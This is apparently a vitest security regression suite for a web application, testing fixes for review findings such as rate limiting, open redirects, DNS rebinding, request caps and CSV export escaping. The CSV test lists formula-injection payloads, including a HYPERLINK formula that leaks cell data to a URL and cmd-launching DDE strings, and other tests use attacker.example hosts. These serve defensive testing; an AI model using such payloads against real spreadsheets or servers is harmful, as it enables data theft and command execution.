/**
 * Security review, web layer (docs/reviews/security-review.md: M4–M7, M9–M11, L1, L2, L6, L7, L9–L11): one test
 * per finding, through the real route handlers behind a real HTTP server on 127.0.0.1 (tests/helpers/route-server),
 * on a throwaway installation. Response headers and the page CSP (L2) need `next start`: see
 * tests/e2e/security-headers.spec.ts.
 */
import Database from "better-sqlite3";
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tableToCsv } from "@/app/analytics/_lib/table";
import { openDatabase } from "../../db/client";
import { closeDatabase, sqliteClient } from "../../db/database";
import { countAdmins, countUsers, getUserByEmail } from "../../db/repositories/accounts/users";
import { insertScreenshotIfMissing } from "../../db/repositories/screenshots";
import { resolveClientAddress, proxyList } from "../../server/auth/client-address";
import { isAllowedHost, trustedOriginsFor } from "../../server/auth/origins";
import { SECRET_FILE_NAME, resolveAuthSecret } from "../../server/auth/secret";
import { parseCsv } from "../../server/domain/csv";
import { labelExportCsv, LABEL_EXPORT_COLUMNS, type LabelExportRow } from "../../server/domain/annotation/label-io";
import { safeNextPath } from "../../server/domain/safe-redirect";
import { createAccount } from "../../server/services/accounts";
import { encodesInProgress, ENCODE_CONCURRENCY, warmVariants } from "../../server/services/images";
import { sha256 } from "../../server/storage/screenshot-store";
import { createTestContext, type TestContext } from "../helpers/context";
import { rawRequest, startRouteServer, type RawResponse, type RouteServer } from "../helpers/route-server";

const PASSWORD = "correct-horse-battery";
let ctx: TestContext;
let server: RouteServer;
const saved = { ...process.env };

/** Points the route handlers (which read the environment on every request, like the web server) at `dir`. */
function useInstallation(dir: string): void {
  process.env.VERDICT_DB = path.join(dir, "verdict.db");
  process.env.VERDICT_DATA_DIR = dir;
}

beforeAll(async () => {
  // As in `next start`: production (sign-in rate limit on) and the web server's short database busy timeout.
  (process.env as Record<string, string>).NODE_ENV = "production";
  process.env.NEXT_RUNTIME = "nodejs";
  ctx = createTestContext("verdict-sec-web-");
  useInstallation(ctx.dir);
  for (const [email, role] of [
    ["admin@sec.test", "admin"],
    ["x@sec.test", "annotator"],
    ["y@sec.test", "annotator"],
    ["z@sec.test", "researcher"],
  ] as const) {
    await createAccount(ctx, { email, name: email.split("@")[0]!, role, password: PASSWORD });
  }
  server = await startRouteServer();
});

afterAll(async () => {
  await server?.close();
  await ctx?.cleanup();
  process.env = saved;
});

function json(body: unknown): { headers: Record<string, string>; body: string } {
  return { headers: { "Content-Type": "application/json", Origin: server.url }, body: JSON.stringify(body) };
}

async function signIn(email: string, password = PASSWORD, extra: { localAddress?: string; headers?: Record<string, string> } = {}): Promise<RawResponse> {
  const req = json({ email, password });
  return rawRequest(`${server.url}/api/auth/sign-in/email`, {
    method: "POST",
    headers: { ...req.headers, ...extra.headers },
    body: req.body,
    localAddress: extra.localAddress,
  });
}

async function sessionCookie(email: string, password = PASSWORD): Promise<string> {
  const res = await signIn(email, password);
  expect(res.status, res.body).toBe(200);
  const setCookie = res.headers["set-cookie"] ?? [];
  return setCookie.map((c) => c.split(";")[0]).join("; ");
}

async function trpcMutation(pathName: string, input: unknown, cookie?: string): Promise<RawResponse> {
  const req = json({ json: input });
  return rawRequest(`${server.url}/api/trpc/${pathName}`, {
    method: "POST",
    headers: { ...req.headers, ...(cookie ? { Cookie: cookie } : {}) },
    body: req.body,
  });
}

async function trpcQuery(pathName: string, cookie?: string): Promise<RawResponse> {
  return rawRequest(`${server.url}/api/trpc/${pathName}`, { headers: cookie ? { Cookie: cookie } : {} });
}

async function userId(email: string): Promise<string> {
  return (await getUserByEmail(ctx.db, email))!.id;
}

describe("M4: the sign-in rate limit counts connections, not claimed addresses", () => {
  it("rotating X-Forwarded-For does not escape the limit, and another client is not locked out", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 12; i++) {
      statuses.push((await signIn("admin@sec.test", "wrong-password", { localAddress: "127.0.0.2", headers: { "X-Forwarded-For": `10.9.8.${i}` } })).status);
    }
    expect(statuses.slice(0, 10)).toEqual(Array(10).fill(401));
    expect(statuses.slice(10)).toEqual([429, 429]);
    // A client claiming to be someone else's address gets its own connection's bucket, not theirs.
    expect((await signIn("admin@sec.test", "wrong-password", { localAddress: "127.0.0.3", headers: { "X-Forwarded-For": "127.0.0.2" } })).status).toBe(401);
  });

  it("believes X-Forwarded-For only from a configured proxy, and only the hop it appended", () => {
    const proxies = proxyList(["10.0.0.5", "192.0.2.0/24"]);
    expect(resolveClientAddress("203.0.113.9", "1.2.3.4", proxies)).toBe("203.0.113.9");
    expect(resolveClientAddress("10.0.0.5", "6.6.6.6, 198.51.100.7", proxies)).toBe("198.51.100.7");
    expect(resolveClientAddress("::ffff:10.0.0.5", "6.6.6.6, 198.51.100.7, 192.0.2.4", proxies)).toBe("198.51.100.7");
    expect(resolveClientAddress("10.0.0.5", "not-an-ip", proxies)).toBe("10.0.0.5");
    expect(() => proxyList(["10.0.0.0/99"])).toThrow(/VERDICT_TRUSTED_PROXIES: "10.0.0.0\/99"/);
  });
});

describe("M5: after sign-in, only same-site paths are followed", () => {
  it("refuses /\\host, //host and their encoded forms", () => {
    for (const next of ["/\\evil.example/x", "/%5Cevil.example/x", "//evil.example", "/%2F%2Fevil.example", "/%2Fevil.example"]) {
      expect(safeNextPath(next), next).toBe("/");
    }
    expect(safeNextPath("/campaigns/3?tab=items")).toBe("/campaigns/3?tab=items");
  });
});

describe("M6: a rebound host name cannot sign in", () => {
  it("refuses sign-in and API calls addressed to an unknown name, even with a matching Origin", async () => {
    const host = `rebind.attacker.example:${server.port}`;
    const res = await rawRequest(`${server.url}/api/auth/sign-in/email`, {
      method: "POST",
      headers: { Host: host, Origin: `http://${host}`, "Content-Type": "application/json" },
      body: JSON.stringify({ email: "admin@sec.test", password: PASSWORD }),
    });
    expect(res.status).toBe(421);
    expect(res.headers["set-cookie"]).toBeUndefined();
    expect(JSON.parse(res.body).error).toMatch(/VERDICT_BASE_URL/);
    expect((await rawRequest(`${server.url}/api/trpc/accounts.session`, { headers: { Host: host } })).status).toBe(421);
  });

  it("trusts configured origins and unrebindable names only", () => {
    const config = { baseUrl: "https://verdict.lab.example", trustedOrigins: ["http://verdict-alt.lab.example:8080"] };
    expect(isAllowedHost("verdict.lab.example", config)).toBe(true);
    expect(isAllowedHost("verdict-alt.lab.example:8080", config)).toBe(true);
    expect(isAllowedHost("192.168.1.5:3000", {})).toBe(true);
    expect(isAllowedHost("[::1]:3000", {})).toBe(true);
    expect(isAllowedHost("attacker.example", config)).toBe(false);
    expect(trustedOriginsFor(config, { protocol: "http:", host: "attacker.example" })).toEqual([
      "https://verdict.lab.example",
      "http://verdict-alt.lab.example:8080",
    ]);
    expect(trustedOriginsFor({}, { protocol: "http:", host: "127.0.0.1:3000" })).toEqual(["http://127.0.0.1:3000"]);
  });
});

describe("M7: request bodies and batches are capped", () => {
  const big = "x".repeat(2 * 1024 * 1024);
  it("refuses an oversized public tRPC body with a 413 and a JSON message, declared or streamed", async () => {
    const declared = await rawRequest(`${server.url}/api/trpc/accounts.acceptInvitation`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ json: { token: big } }),
    });
    expect(declared.status).toBe(413);
    const error = JSON.parse(declared.body).error.json;
    expect(error.message).toMatch(/larger than this server accepts \(1 MiB\)/);
    expect(error.data).toMatchObject({ code: "PAYLOAD_TOO_LARGE", httpStatus: 413 });
    const streamed = await rawRequest(`${server.url}/api/trpc/accounts.acceptInvitation,accounts.setup?batch=1`, {
      method: "POST",
      headers: { "Content-Type": "application/json", "Transfer-Encoding": "chunked" },
      body: async function* () {
        for (let i = 0; i < 64; i++) yield Buffer.alloc(64 * 1024, 0x61);
      },
    });
    expect(streamed.status).toBe(413);
    // A batch gets one refusal per call, in the format the browser's batch link reads.
    expect((JSON.parse(streamed.body) as { error: { json: { data: { path: string } } } }[]).map((e) => e.error.json.data.path)).toEqual([
      "accounts.acceptInvitation",
      "accounts.setup",
    ]);
  });

  it("gives the CSV uploads their own, larger limit", async () => {
    const res = await rawRequest(`${server.url}/api/trpc/analytics.csvAgreement`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ json: { text: big } }),
    });
    expect(res.status).toBe(401); // refused for want of a session before the body is read (review 2, N5)
  });

  it("caps sign-in bodies", async () => {
    const res = await rawRequest(`${server.url}/api/auth/sign-in/email`, {
      method: "POST",
      headers: { "Content-Type": "application/json", Origin: server.url },
      body: JSON.stringify({ email: "a@b.c", password: "p".repeat(100_000) }),
    });
    expect(res.status).toBe(413);
    expect(JSON.parse(res.body).error.message).toMatch(/larger than this server accepts \(64 KiB\)/);
  });

  it("refuses batches of more than 10 calls", async () => {
    const batch = (n: number) =>
      `${server.url}/api/trpc/${Array(n).fill("accounts.session").join(",")}?batch=1&input=${encodeURIComponent(JSON.stringify({}))}`;
    expect((await rawRequest(batch(10))).status).toBe(200);
    expect((await rawRequest(batch(11))).status).toBe(400);
  });
});

describe("M9: a locked database gives a quick, retryable answer", () => {
  it("answers 503 'busy, try again' while another connection still holds the write lock, then succeeds", async () => {
    const admin = await sessionCookie("admin@sec.test");
    const other = new Database(process.env.VERDICT_DB!);
    other.exec("BEGIN IMMEDIATE");
    let busy: RawResponse;
    try {
      busy = await trpcMutation("accounts.invite", { email: "busy@sec.test", role: "annotator" }, admin);
    } finally {
      other.exec("ROLLBACK");
      other.close();
    }
    // The lock is held until the answer has arrived, so a 503 here means the server gave up after its own short busy
    // wait (WEB_BUSY_TIMEOUT_MS) instead of queueing behind the writer; no wall-clock bound, which a loaded machine breaks.
    expect(busy.status).toBe(503);
    const error = JSON.parse(busy.body).error.json;
    expect(error.message).toBe("The database is busy; try again");
    expect(error.data.retryable).toBe(true);
    const again = await trpcMutation("accounts.invite", { email: "busy@sec.test", role: "annotator" }, admin);
    expect(again.status).toBe(200);
  });

  it("answers sign-in with a retryable 503 too, instead of a bare 500", async () => {
    const other = new Database(process.env.VERDICT_DB!);
    other.exec("BEGIN IMMEDIATE");
    let busy: RawResponse;
    try {
      busy = await signIn("z@sec.test");
    } finally {
      other.exec("ROLLBACK");
      other.close();
    }
    expect(busy.status).toBe(503);
    expect(JSON.parse(busy.body)).toMatchObject({ message: "The database is busy; try again", retryable: true });
    expect((await signIn("z@sec.test")).status).toBe(200);
  });
});

describe("M10: exported CSVs cannot run formulas in a spreadsheet", () => {
  const attacks = [
    '=HYPERLINK("http://127.0.0.1:9999/x?leak="&A2,"Open details")',
    "+1+cmd|' /C calc'!A0-xss",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
  ];
  it("neutralises notes and imported names in the label export", () => {
    const row = Object.fromEntries(LABEL_EXPORT_COLUMNS.map((c) => [c, null])) as LabelExportRow;
    const rows = attacks.map((a) => ({ ...row, kind: "annotation", note: a, run_name: a, time_spent_ms: -5 }));
    const [header, ...records] = parseCsv(labelExportCsv(rows));
    const note = header!.indexOf("note");
    expect(records.map((r) => r[note])).toEqual(attacks.map((a) => `'${a}`));
    expect(records[0]![header!.indexOf("time_spent_ms")]).toBe("-5");
  });
  it("neutralises analytics table cells", () => {
    const csv = tableToCsv({
      name: "t",
      columns: [{ key: "a", label: "=label" }],
      rows: [{ key: "1", cells: { a: { text: "@cell", csv: ["-0.25"] } } }],
      empty: "",
    });
    expect(parseCsv(csv)).toEqual([["'=label"], ["-0.25"]]);
  });
});

describe("M11: password reset, role change and deactivation sign the user out at once", () => {
  it("ends existing sessions immediately", async () => {
    const admin = await sessionCookie("admin@sec.test");
    const x = await sessionCookie("x@sec.test");
    expect((await trpcQuery("accounts.me", x)).status).toBe(200);
    expect((await trpcMutation("accounts.setPassword", { userId: await userId("x@sec.test"), password: "a-new-password" }, admin)).status).toBe(200);
    expect((await trpcQuery("accounts.me", x)).status).toBe(401);

    const x2 = await sessionCookie("x@sec.test", "a-new-password");
    expect((await trpcMutation("accounts.setDeactivated", { userId: await userId("x@sec.test"), deactivated: true }, admin)).status).toBe(200);
    expect((await trpcQuery("accounts.me", x2)).status).toBe(401);

    const y = await sessionCookie("y@sec.test");
    expect((await trpcMutation("accounts.setRole", { userId: await userId("y@sec.test"), role: "researcher" }, admin)).status).toBe(200);
    expect((await trpcQuery("accounts.me", y)).status).toBe(401);
  });
});

describe("L1: the database and its folder are private to the owner", () => {
  it("creates the folder 0700 and the database files 0600", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "verdict-sec-modes-"));
    try {
      const file = path.join(dir, "data", "verdict.db");
      const db = openDatabase(file);
      sqliteClient(db).exec("CREATE TABLE IF NOT EXISTS t (x); INSERT INTO t VALUES (1);");
      expect(fs.statSync(path.dirname(file)).mode & 0o777).toBe(0o700);
      expect(fs.statSync(file).mode & 0o777).toBe(0o600);
      expect(fs.statSync(`${file}-wal`).mode & 0o777).toBe(0o600);
      await closeDatabase(db);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

async function storeScreenshot(seed: number): Promise<string> {
  const png = await sharp({ create: { width: 640, height: 400, channels: 3, background: { r: seed % 256, g: (seed * 7) % 256, b: 90 } } })
    .png()
    .toBuffer();
  const hash = sha256(png);
  const batch = ctx.store.beginBatch();
  await batch.put(hash, png);
  await batch.publish();
  await insertScreenshotIfMissing(ctx.db, { hash, mime: "image/png", width: 640, height: 400, bytes: png.byteLength });
  return hash;
}

describe("L6: a damaged screenshot file is a 422, not a server error", () => {
  it("answers 422 for a variant of a file that no longer decodes", async () => {
    const cookie = await sessionCookie("z@sec.test");
    const hash = await storeScreenshot(1);
    fs.writeFileSync(ctx.store.pathFor(hash), "garbage, not a png");
    const res = await rawRequest(`${server.url}/api/screenshots/${hash}?w=320`, { headers: { Cookie: cookie } });
    expect(res.status).toBe(422);
    expect(res.body).toMatch(/damaged/);
    expect((await rawRequest(`${server.url}/api/screenshots/${hash}?w=160`, { headers: { Cookie: cookie } })).status).toBe(422);
  });
});

describe("L7: the auth secret is written all-or-nothing", () => {
  it("a write that fails (file size limit, as on a full disk) leaves no short secret behind", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "verdict-sec-secret-"));
    try {
      const tsx = path.resolve(__dirname, "..", "..", "node_modules", "tsx", "dist", "cli.mjs");
      const script = `import { resolveAuthSecret } from ${JSON.stringify(path.resolve(__dirname, "..", "..", "server", "auth", "secret.ts"))}; resolveAuthSecret({ dataDir: ${JSON.stringify(dir)} });`;
      const child = spawnSync("bash", ["-c", `ulimit -f 0; exec "$0" "$1" -e "$2"`, process.execPath, tsx, script], { encoding: "utf8" });
      expect(child.status).not.toBe(0);
      expect(fs.existsSync(path.join(dir, SECRET_FILE_NAME))).toBe(false);
      // The next start simply generates a secret.
      expect(resolveAuthSecret({ dataDir: dir })).toHaveLength(43);
      expect(fs.readdirSync(dir)).toEqual([SECRET_FILE_NAME]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("L9: first-run setup makes exactly one admin when two requests race", () => {
  it("lets one of two simultaneous setups through", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "verdict-sec-setup-"));
    try {
      useInstallation(dir);
      const [a, b] = await Promise.all([
        trpcMutation("accounts.setup", { email: "first@sec.test", name: "First", password: PASSWORD }),
        trpcMutation("accounts.setup", { email: "second@sec.test", name: "Second", password: PASSWORD }),
      ]);
      expect([a.status, b.status].sort()).toEqual([200, 403]);
      const db = openDatabase(path.join(dir, "verdict.db"));
      try {
        expect(await countUsers(db)).toBe(1);
        expect(await countAdmins(db)).toBe(1);
      } finally {
        await closeDatabase(db);
      }
    } finally {
      useInstallation(ctx.dir);
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("L10: display names set through better-auth are bounded", () => {
  it("refuses an over-long or empty name and keeps the old one", async () => {
    const cookie = await sessionCookie("z@sec.test");
    const update = (name: string) =>
      rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
    const long = await update("R".repeat(300));
    expect(long.status).toBe(400);
    expect(long.body).toMatch(/name: at most 200 characters/);
    expect((await update("   ")).status).toBe(400);
    expect((await getUserByEmail(ctx.db, "z@sec.test"))?.name).toBe("z");
    expect((await update("Zed")).status).toBe(200);
  });
});

describe("L11: warming variants never runs more encodes than the global limit", () => {
  it("keeps concurrent encodes at ENCODE_CONCURRENCY however many warm-up calls arrive", async () => {
    const hashes = await Promise.all(Array.from({ length: 8 }, (_, i) => storeScreenshot(10 + i)));
    let peak = 0;
    const timer = setInterval(() => (peak = Math.max(peak, encodesInProgress())), 1);
    for (const width of [160, 320, 480, 640]) {
      await warmVariants(ctx, hashes, { kind: "variant", width, format: "webp" });
      await warmVariants(ctx, hashes, { kind: "variant", width, format: "avif" });
    }
    const deadline = Date.now() + 60_000;
    while (Date.now() < deadline && !fs.existsSync(path.join(ctx.dir, "variants", hashes[7]!.slice(0, 2), `${hashes[7]}-w640.avif`))) {
      await new Promise((r) => setTimeout(r, 20));
    }
    while (encodesInProgress() > 0) await new Promise((r) => setTimeout(r, 20));
    clearInterval(timer);
    expect(peak).toBeGreaterThan(0);
    expect(peak).toBeLessThanOrEqual(ENCODE_CONCURRENCY);
  });
});

// ---- second review (docs/reviews/security-review-2.md) ----

/** A session cookie from a sign-in over `localAddress` (each test its own, so the sign-in rate limit stays out of it). */
async function sessionCookieFrom(localAddress: string, email: string, password = PASSWORD): Promise<string> {
  const res = await signIn(email, password, { localAddress });
  expect(res.status, res.body).toBe(200);
  return (res.headers["set-cookie"] ?? []).map((c) => c.split(";")[0]).join("; ");
}

describe("review 2, L6: changing one's own password ends one's other sessions", () => {
  it("revokes the older session, also when the request asks to keep it", async () => {
    await createAccount(ctx, { email: "pw@sec.test", name: "Pat Word", role: "annotator", password: PASSWORD });
    let password = PASSWORD;
    let current = await sessionCookieFrom("127.0.0.61", "pw@sec.test");
    for (const [i, asked] of [{}, { revokeOtherSessions: false }].entries()) {
      const older = await sessionCookieFrom("127.0.0.62", "pw@sec.test", password);
      expect((await trpcQuery("accounts.me", older)).status).toBe(200);
      const newPassword = `changed-password-${i}`;
      const res = await rawRequest(`${server.url}/api/auth/change-password`, {
        method: "POST",
        headers: { ...json({}).headers, Cookie: current },
        body: JSON.stringify({ currentPassword: password, newPassword, ...asked }),
      });
      expect(res.status, res.body).toBe(200);
      password = newPassword;
      // The session that made the change goes on (with the token better-auth hands back); the other one ends at once.
      current = (res.headers["set-cookie"] ?? []).map((c) => c.split(";")[0]).join("; ") || current;
      expect((await trpcQuery("accounts.me", current)).status).toBe(200);
      expect((await trpcQuery("accounts.me", older)).status).toBe(401);
    }
  });
});

describe("review 2, L9: display names are unique, ignoring case and spaces", () => {
  it("refuses to rename to another account's name, and to create an account under it", async () => {
    await createAccount(ctx, { email: "ann@sec.test", name: "Ann One", role: "annotator", password: PASSWORD });
    await createAccount(ctx, { email: "imp@sec.test", name: "Imposter", role: "annotator", password: PASSWORD });
    const cookie = await sessionCookieFrom("127.0.0.63", "imp@sec.test");
    const rename = (name: string) =>
      rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
    for (const name of ["Ann One", "ann one", "  ANN   ONE ", "AnnOne", "Ann\u00a0One", "Ａｎｎ Ｏｎｅ", "Ann\u200bOne"]) {
      const res = await rename(name);
      expect(res.status, name).toBe(400);
      expect(res.body).toMatch(/is already the name of another account/);
    }
    expect((await getUserByEmail(ctx.db, "imp@sec.test"))?.name).toBe("Imposter");
    // One's own name in another spelling, and a new name, are fine.
    expect((await rename("imposter")).status).toBe(200);
    expect((await rename("Ann Two")).status).toBe(200);
    await expect(createAccount(ctx, { email: "ann2@sec.test", name: "ann one", role: "annotator", password: PASSWORD })).rejects.toThrow(
      /"ann one" is already the name of another account/,
    );
    // An admin renaming someone else is held to the same rule.
    const admin = await sessionCookieFrom("127.0.0.64", "admin@sec.test");
    const byAdmin = await rawRequest(`${server.url}/api/auth/admin/update-user`, {
      method: "POST",
      headers: { ...json({}).headers, Cookie: admin },
      body: JSON.stringify({ userId: await userId("imp@sec.test"), data: { name: "ANN ONE" } }),
    });
    expect(byAdmin.status).toBe(400);
    expect((await getUserByEmail(ctx.db, "imp@sec.test"))?.name).toBe("Ann Two");
  });
});

describe("review 2, L4: every route handler under app/api checks Host and Origin", () => {
  const apiDir = path.join(__dirname, "../../app/api");
  const routeFiles = (fs.readdirSync(apiDir, { recursive: true }) as string[]).filter((f) => path.basename(f) === "route.ts").sort();
  const METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE"] as const;
  type Handler = (req: Request, context: { params: Promise<Record<string, string | string[]>> }) => Promise<Response>;
  /** Values for the dynamic parts of a route's path ([id] → 1, [...all] → sign-in/email). */
  const params = { params: Promise.resolve({ id: "1", hash: "0".repeat(64), trpc: "accounts.me", all: ["sign-in", "email"] }) };

  it("finds the route files it walks", () => {
    expect(routeFiles).toEqual(
      expect.arrayContaining(["imports/route.ts", "trpc/[trpc]/route.ts", "screenshots/[hash]/route.ts", "campaigns/[id]/labels/route.ts"]),
    );
  });

  it("answers a rebound Host 421 and another origin's page 403, before the session or body is looked at", async () => {
    const cookie = await sessionCookieFrom("127.0.0.65", "z@sec.test");
    const good = `127.0.0.1:${server.port}`;
    const checked: string[] = [];
    for (const file of routeFiles) {
      const mod = (await import(path.join(apiDir, file))) as Partial<Record<(typeof METHODS)[number], Handler>>;
      for (const method of METHODS) {
        const handler = mod[method];
        if (!handler) continue;
        const where = `${method} ${file}`;
        checked.push(where);
        const url = `http://${good}/api/${path.dirname(file)}`;
        const body = method === "GET" ? undefined : "PK\u0003\u0004";
        const send = (headers: Record<string, string>) =>
          handler(new Request(url, { method, headers: { Cookie: cookie, "Content-Type": "text/plain", ...headers }, body }), params);
        expect((await send({ Host: "rebind.attacker.example" })).status, where).toBe(421);
        // A page on another port of this host: its requests are same-site, so the Lax session cookie goes with them.
        const other = await send({ Host: good, Origin: "http://127.0.0.1:9998" });
        expect(other.status, where).toBe(403);
        expect(await other.text()).toMatch(/Requests from a page at http:\/\/127\.0\.0\.1:9998 are refused/);
        expect((await send({ Host: good, Origin: "null" })).status, where).toBe(403);
        if (method !== "GET") expect((await send({ Host: good, "Sec-Fetch-Site": "same-site" })).status, where).toBe(403);
      }
    }
    expect(checked).toEqual(
      expect.arrayContaining(["POST imports/route.ts", "GET health/route.ts", "GET screenshots/[hash]/route.ts", "GET campaigns/[id]/reveal-stages/route.ts"]),
    );
  });

  it("serves the installation's own pages and clients that send no Origin", async () => {
    const { GET } = await import("../../app/api/health/route");
    const good = `127.0.0.1:${server.port}`;
    const variants: Record<string, string>[] = [{ Host: good }, { Host: good, Origin: `http://${good}` }, { Host: good, "Sec-Fetch-Site": "same-origin" }];
    for (const headers of variants) {
      expect((await GET(new Request(`http://${good}/api/health`, { headers }))).status).toBe(200);
    }
    const cookie = await sessionCookieFrom("127.0.0.66", "z@sec.test");
    const me = await rawRequest(`${server.url}/api/trpc/accounts.me`, { headers: { Cookie: cookie, Origin: server.url } });
    expect(me.status).toBe(200);
  });
});
